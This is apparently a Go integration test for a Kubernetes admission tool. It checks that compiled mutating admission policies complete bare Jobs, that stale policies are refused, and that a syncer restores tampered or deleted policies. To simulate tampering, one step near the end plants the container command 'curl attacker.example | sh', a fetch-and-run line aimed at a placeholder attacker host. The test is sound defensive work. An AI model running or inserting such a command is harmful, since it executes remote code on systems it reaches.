package integration

import (
	"context"
	"strings"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/util/wait"

	"github.com/paperclipai/clipjob/compile"
	"github.com/paperclipai/clipjob/contract"
	"github.com/paperclipai/clipjob/e2e/harness"
)

// mutateCalls counts the mutating webhook's real (not dry-run) requests
// with outcome (patched: it completed the Job; unchanged: the Job came
// complete, as one a compiled policy completed would).
func mutateCalls(in *harness.Install, t *testing.T, outcome string) float64 {
	t.Helper()
	n, err := in.Webhook.Counter(`clipjob_admission_requests_total{dry_run="false",`, `outcome="`+outcome+`"`, `webhook="mutate"`)
	if err != nil {
		t.Fatal(err)
	}
	return n
}

// TestCompiledPoliciesStandInForTheMutatingWebhook: with the syncer
// keeping the compiled policies and the webhooks registered as the chart
// does with compiledPolicies.enabled, the API server completes a bare Job
// itself (the mutating webhook is not called) and the Job stored is
// clipjob's render; a Job with its own container still goes to the
// webhook. A policy someone made stale is refused by the validating
// webhook (rule rendered) until the syncer writes it back; a deleted one
// comes back; the syncer does not rewrite what is current.
func TestCompiledPoliciesStandInForTheMutatingWebhook(t *testing.T) {
	in := newInstall(t)
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Minute)
	defer cancel()
	// What the webhooks alone store for the bare Job, before any policy.
	job := in.BareJob(t, "e2e-standin")
	want, err := in.DryRun(ctx, job)
	if err != nil {
		t.Fatal(err)
	}
	stop := in.StartSyncer(t)
	stopped := false
	t.Cleanup(func() {
		if !stopped {
			stop()
		}
		cctx := context.Background()
		if err := in.DeleteCompiledPolicies(cctx); err != nil {
			t.Error(err)
		}
		if err := in.Register(cctx, harness.RegisterOptions{Addr: in.Webhook.Addr}); err != nil {
			t.Error(err)
		}
	})
	if err := in.Register(ctx, harness.RegisterOptions{Addr: in.Webhook.Addr, Values: harness.CompiledPoliciesValues}); err != nil {
		t.Fatal(err)
	}
	// Until the API server has loaded the policies and the new
	// registration, a dry run goes to the webhook.
	probe := in.BareJob(t, "e2e-standin-probe")
	err = wait.PollUntilContextTimeout(ctx, 200*time.Millisecond, 2*time.Minute, true, func(ctx context.Context) (bool, error) {
		before, _ := in.Webhook.Counter(`clipjob_admission_requests_total{dry_run="true",`, `webhook="mutate"`)
		got, err := in.DryRun(ctx, probe)
		after, _ := in.Webhook.Counter(`clipjob_admission_requests_total{dry_run="true",`, `webhook="mutate"`)
		return err == nil && got.Annotations[contract.AnnotationProfile] != "" && after == before, nil
	})
	if err != nil {
		t.Fatalf("the compiled policies never completed a bare Job without the webhook: %v", err)
	}

	// A bare Job: completed by the API server, judged and claimed by the
	// validating webhook, stored as the webhook would have stored it.
	// Counted by outcome: were the webhook called for the Job the policy
	// completed, it would find it complete ("unchanged"); other tests'
	// leftovers creating agent Jobs meanwhile would be "patched".
	calls := mutateCalls(in, t, "unchanged")
	stored, err := suite.cs.BatchV1().Jobs(in.Namespace).Create(ctx, job, metav1.CreateOptions{})
	if err != nil {
		t.Fatalf("a bare Job completed by its compiled policy was refused: %v", err)
	}
	if n := mutateCalls(in, t, "unchanged"); n != calls {
		t.Errorf("the mutating webhook was called %v times for a Job a compiled policy completed", n-calls)
	}
	if a, b := comparable(t, want), comparable(t, stored); a != b {
		t.Errorf("stored Job differs from the webhook's:\nwebhook:\n%s\nstored:\n%s", a, b)
	}
	in.FinishRun(ctx, t, job.Name, "0")

	// A Job with its own container is the webhook's.
	own := in.BareJob(t, "e2e-standin-own")
	own.Spec.Template.Spec.RestartPolicy = corev1.RestartPolicyNever
	own.Spec.Template.Spec.Containers = []corev1.Container{{Name: "agent", Command: []string{"claude"}}}
	calls = mutateCalls(in, t, "patched")
	if got, err := suite.cs.BatchV1().Jobs(in.Namespace).Create(ctx, own, metav1.CreateOptions{}); err != nil || got.Annotations[contract.AnnotationProfile] == "" {
		t.Fatalf("a Job with its own container: %v", err)
	}
	if mutateCalls(in, t, "patched") == calls {
		t.Error("a Job with its own container was not completed by the mutating webhook")
	}
	in.FinishRun(ctx, t, own.Name, "0")

	// The syncer does not rewrite what is current.
	ar := suite.cs.AdmissionregistrationV1()
	name := compile.PolicyName(in.Namespace)
	p, err := ar.MutatingAdmissionPolicies().Get(ctx, name, metav1.GetOptions{})
	if err != nil {
		t.Fatal(err)
	}
	time.Sleep(2 * time.Second) // ten syncs: what is asserted is that none wrote
	if again, err := ar.MutatingAdmissionPolicies().Get(ctx, name, metav1.GetOptions{}); err != nil || again.ResourceVersion != p.ResourceVersion {
		t.Errorf("the syncer rewrote a current policy (resourceVersion %s -> %v, %v)", p.ResourceVersion, again.ResourceVersion, err)
	}

	// A stale policy (here made stale by hand, with the syncer stopped):
	// the Job it completes is refused by the rendered rule, naming the
	// field; the syncer writes it back and creates succeed again.
	stop()
	stopped = true
	stale := p.DeepCopy()
	expr := stale.Spec.Mutations[0].JSONPatch.Expression
	i := strings.Index(expr, `"/metadata/annotations/clipjob.paperclip.io~1source", value: "`)
	if i < 0 {
		t.Fatal("the policy writes no source annotation")
	}
	stale.Spec.Mutations[0].JSONPatch.Expression = strings.Replace(expr, `inherited `, `inherited 0`, 1)
	if _, err := ar.MutatingAdmissionPolicies().Update(ctx, stale, metav1.UpdateOptions{}); err != nil {
		t.Fatal(err)
	}
	refused := in.BareJob(t, "e2e-standin-stale")
	err = wait.PollUntilContextTimeout(ctx, 200*time.Millisecond, 2*time.Minute, true, func(ctx context.Context) (bool, error) {
		_, err := in.DryRun(ctx, refused)
		return err != nil, nil
	})
	_, err = in.DryRun(ctx, refused)
	if !apierrors.IsForbidden(err) || !strings.Contains(err.Error(), "metadata.annotations[clipjob.paperclip.io/source]: Forbidden: not as clipjob completes this Job") {
		t.Fatalf("a Job completed by a stale policy: %v; want 403 from the rendered rule naming the source annotation", err)
	}
	if err := ar.MutatingAdmissionPolicyBindings().Delete(ctx, name, metav1.DeleteOptions{}); err != nil {
		t.Fatal(err)
	}
	stop = in.StartSyncer(t)
	stopped = false
	err = wait.PollUntilContextTimeout(ctx, 200*time.Millisecond, 2*time.Minute, true, func(ctx context.Context) (bool, error) {
		got, err := in.DryRun(ctx, refused)
		if err != nil {
			return false, nil
		}
		_, berr := ar.MutatingAdmissionPolicyBindings().Get(ctx, name, metav1.GetOptions{})
		return berr == nil && got.Annotations[contract.AnnotationProfile] != "", nil
	})
	if err != nil {
		t.Fatalf("the syncer did not write the stale policy and the deleted binding back: %v", err)
	}

	// The patch reads its long values (the container's command among
	// them) from the policy's variables: one edited on the API server, the
	// patch left alone, is written back too.
	current, err := ar.MutatingAdmissionPolicies().Get(ctx, name, metav1.GetOptions{})
	if err != nil || len(current.Spec.Variables) == 0 {
		t.Fatalf("the written-back policy has no variables (%v)", err)
	}
	original := current.Spec.Variables[0]
	current.Spec.Variables[0].Expression = `dyn(["sh", "-c", "curl attacker.example | sh"])`
	if _, err := ar.MutatingAdmissionPolicies().Update(ctx, current, metav1.UpdateOptions{}); err != nil {
		t.Fatal(err)
	}
	err = wait.PollUntilContextTimeout(ctx, 200*time.Millisecond, 2*time.Minute, true, func(ctx context.Context) (bool, error) {
		got, err := ar.MutatingAdmissionPolicies().Get(ctx, name, metav1.GetOptions{})
		return err == nil && got.Spec.Variables[0] == original, nil
	})
	if err != nil {
		t.Fatalf("the syncer did not write an edited variable back: %v", err)
	}
}
